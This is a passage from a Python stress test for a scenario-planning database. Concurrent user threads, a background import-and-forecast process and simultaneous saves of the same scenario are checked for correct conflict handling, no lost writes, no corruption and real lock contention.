                    failures.append(f"user {number}: {type(error).__name__}: {error}")
            done += 1

    def contest(round_number: int) -> None:
        """Two planners open the same scenario and save at the same moment."""
        name = f"shared-{round_number}"
        first = create_scenario(path, Scenario(name), "owner", run)
        gate = threading.Barrier(2)
        outcome: dict[str, str] = {}

        def save(who: str, change: float) -> None:
            gate.wait()
            try:
                save_scenario(
                    path, first, Scenario(name, [Lever("campaign", change=change)]), who, run
                )
                outcome[who] = "saved"
            except ConflictError as error:
                outcome[who] = f"conflict: {error}"
            except Exception as error:
                outcome[who] = f"{type(error).__name__}: {error}"

        pair = [threading.Thread(target=save, args=(w, c)) for w, c in (("ana", 0.1), ("ben", 0.2))]
        for thread in pair:
            thread.start()
        for thread in pair:
            thread.join()
        with db.connect(path) as con:
            kept = load_scenario(con, name)
        winners = [w for w, o in outcome.items() if o == "saved"]
        with lock:
            contests.append((outcome.get("ana", "?"), outcome.get("ben", "?")))
            if len(winners) != 1 or kept.version != 2 or kept.updated_by != winners[0]:
                failures.append(
                    f"contest {name}: {outcome}, stored v{kept.version} by {kept.updated_by}"
                )
            else:
                saved[name] = (kept.version, 0.1 if winners[0] == "ana" else 0.2)

    def contests_loop() -> None:
        for round_number in range(4):
            try:
                contest(round_number)
            except Exception as error:
                with lock:
                    failures.append(f"contest {round_number}: {type(error).__name__}: {error}")
            time.sleep(0.3)

    subprocess_thread.start()
    users = [threading.Thread(target=user, args=(n,)) for n in range(10)]
    users.append(threading.Thread(target=contests_loop))
    for thread in users:
        thread.start()
    for thread in users:
        thread.join(timeout=60)
    subprocess_thread.join(timeout=120)
    seconds = time.monotonic() - started

    for name, result in other.items():
        assert result.returncode == 0, f"{name}: {result.stderr}"
        assert "Traceback" not in result.stderr, result.stderr
    assert set(other) == {"import", "forecast"}
    assert not failures, "\n".join(failures)
    assert ops["scenario saves"] >= 20 and ops["overrides"] >= 10 and ops["decisions"] >= 10, ops
    assert len(contests) == 4 and all(
        sorted(o.startswith("conflict") for o in pair) == [False, True] for pair in contests
    ), contests
    assert all("saved" in pair for pair in contests)

    with db.connect(path) as con:
        stored = {
            name: (version, definition)
            for name, version, definition in con.execute(
                "SELECT name, version, definition FROM scenarios"
            ).fetchall()
        }
        for name, (version, change) in saved.items():
            assert name in stored, f"scenario {name} was saved but is not in the database"
            assert stored[name][0] == version, (name, stored[name][0], version)
            levers = json.loads(stored[name][1])["levers"]
            assert levers and levers[0]["change"] == change, (name, levers)
        kept = dict(con.execute("SELECT override_id, reason FROM consensus_overrides").fetchall())
        assert kept == overrides  # every override made is there, and only those
        logged = dict(con.execute("SELECT decision_id, text FROM decisions").fetchall())
        assert logged == decided
        # No corruption: every table reads in full.
        for (table,) in con.execute("SHOW TABLES").fetchall():
            con.execute(f'SELECT * FROM "{table}"').fetchall()
        assert con.execute("PRAGMA database_size").fetchall()
        assert con.execute("SELECT count(*) FROM import_log").fetchone()[0] == imports_before + 1
        assert con.execute("SELECT count(*) FROM forecast_runs").fetchone()[0] == runs_before + 1
    assert seconds < 40, f"took {seconds:.0f} s"
    # The two sides did contend for the file, and waited for each other instead of failing.
    shown = sum(r.stderr.count("waiting (") for r in other.values())
    assert waits or shown, "no lock contention happened: the test proved nothing"
    print(
        f"{ops}, {len(contests)} contests, in {seconds:.1f} s; the threads waited "
        f"{len(waits)} times (longest {max(waits, default=0):.2f} s), the other process "
        f"showed {shown} waits; ends at {timeline}"
    )
